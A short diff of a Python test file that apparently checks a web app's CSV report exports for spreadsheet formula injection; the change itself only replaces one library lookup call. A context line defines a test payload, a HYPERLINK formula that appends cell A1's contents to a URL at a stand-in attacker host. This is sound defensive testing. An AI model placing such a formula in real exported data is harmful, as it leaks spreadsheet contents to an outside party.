@@ -18,7 +18,6 @@ from trainer.core.csv_files import FORMULA_PREFIXES
 from trainer.domain import domain
 from trainer.extensions import db
 from trainer.models import Cohort, CohortMember, User
-from trainer.services.library import assignable_library
 from trainer.services.reports import cohort_report
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -47,7 +46,7 @@ def _csv_urls(app, cohort_id: int) -> list[str]:
     urls = []
     with app.app_context():
         cohort = db.session.get(Cohort, cohort_id)
-        tables = cohort_report(cohort, assignable_library(), 0.95, 0.97).tables
+        tables = cohort_report(cohort, domain().library, 0.95, 0.97).tables
     for rule in app.url_map.iter_rules():
         if not rule.rule.endswith(".csv"):
             continue
